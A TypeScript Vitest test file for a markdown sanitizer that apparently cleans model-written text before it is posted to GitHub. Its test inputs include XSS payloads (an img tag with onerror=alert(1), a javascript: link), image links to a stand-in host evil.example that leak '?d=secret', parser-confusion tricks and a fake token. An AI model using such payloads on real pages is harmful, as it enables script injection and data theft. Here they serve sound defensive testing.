import { describe, expect, it } from "vitest";
import { Parser } from "commonmark";
import { loadSafeMarkdown, safeMarkdown } from "../../src/report/safe-markdown.js";

await loadSafeMarkdown();

describe("safeMarkdown", () => {
  it("keeps code blocks and code spans as written", () => {
    const text = "Run this:\n\n```sql\nSELECT '<b>' AS x; -- @admin\n```\n\nand `a < b` then.";
    expect(safeMarkdown(text)).toBe("Run this:\n\n```sql\nSELECT '<b>' AS x; -- @admin\n```\n\nand `a < b` then.");
  });

  it("escapes HTML, mentions and images in prose", () => {
    expect(safeMarkdown("Hi @octocat <img src=x onerror=alert(1)> ![t](https://evil.example/p.png?d=secret) <!-- data-engineer:finding=abc -->")).toBe(
      "Hi @&#8203;octocat &lt;img src=x onerror=alert(1)&gt; t &lt;!-- data-engineer:finding=abc --&gt;",
    );
  });

  it("redacts secrets, also inside code", () => {
    expect(safeMarkdown("```\nexport TOKEN=ghp_0123456789abcdefghijklmnopqrstuvwxyzAB\n```")).toBe("```\nexport TOKEN=[REDACTED]\n```");
  });

  it("closes a code block the model left open", () => {
    expect(safeMarkdown("```sql\nSELECT 1;")).toBe("```sql\nSELECT 1;\n```");
  });
});

/** What GitHub would see: the node types of the posted text, parsed again. */
function nodeTypes(markdown: string): Set<string> {
  const types = new Set<string>();
  const walker = new Parser().parse(markdown).walker();
  for (let step = walker.next(); step; step = walker.next()) {
    if (step.entering) types.add(step.node.type);
    if (step.entering && step.node.type === "link") types.add(`link:${step.node.destination ?? ""}`);
  }
  return types;
}

const ALLOWED = new Set([
  "link",
  "document",
  "paragraph",
  "heading",
  "text",
  "softbreak",
  "linebreak",
  "emph",
  "strong",
  "code",
  "code_block",
  "list",
  "item",
  "link:https://example.com/docs",
]);
const MARKER = `<!-- data-engineer:finding=${"a".repeat(64)} -->`;

describe("safeMarkdown against the parser's reading (issue 18)", () => {
  it.each([
    ["a backslash-escaped backtick before raw HTML", `\\\`<img src="https://evil.example/p.png?d=secret">\` hi @octocat ${MARKER}`],
    ["a run of backticks no run closes", `\`\`<img src=https://evil.example/p.png?d=secret>\` and \`\`${MARKER}\` @octocat`],
    ["an HTML block", `<div>\n<img src=https://evil.example/p.png>\n</div>\n\n${MARKER}`],
    [
      "images, autolinks and other schemes",
      "![x](https://evil.example/p.png) <https://evil.example/a> [a](javascript:alert(1)) [b](http://evil.example) [c][r]\n\n[r]: https://evil.example/r",
    ],
    ["a table, a quote and a rule", "| a | b |\n| - | - |\n| <b>x</b> | y |\n\n> quoted @octocat\n\n---"],
  ])("posts %s as text: no HTML, image, comment, mention or non-https link survives", (_case, input) => {
    const posted = safeMarkdown(input);
    const types = nodeTypes(posted);
    expect([...types].filter((type) => !ALLOWED.has(type) && !type.startsWith("link:https://"))).toEqual([]);
    expect(posted).not.toMatch(/(?<!`[^`]*)@octocat/);
    expect(posted).not.toContain("<!--");
  });

  it("cannot carry the app's hidden marker inside code either", () => {
    const posted = safeMarkdown(`Here:\n\n\`\`\`html\n${MARKER}\n\`\`\`\n\nand \`${MARKER}\``);
    expect(posted).not.toMatch(/<!-- data-engineer:finding=/);
    expect(posted).toContain("data-engineer:finding=");
  });

  it("keeps headings, lists, emphasis, code and https links as they were", () => {
    const text = "# Plan\n\n- **lock** and *wait*\n- see [docs](https://example.com/docs)\n\n1. first `ALTER TABLE`\n2. second\n\n```sql\nSELECT 1;\n```";
    expect(safeMarkdown(text)).toBe(text);
  });

  it("keeps a code span that holds backticks readable as code", () => {
    const posted = safeMarkdown("use ``a`b`` here");
    expect(posted).toBe("use ``a`b`` here");
  });
});
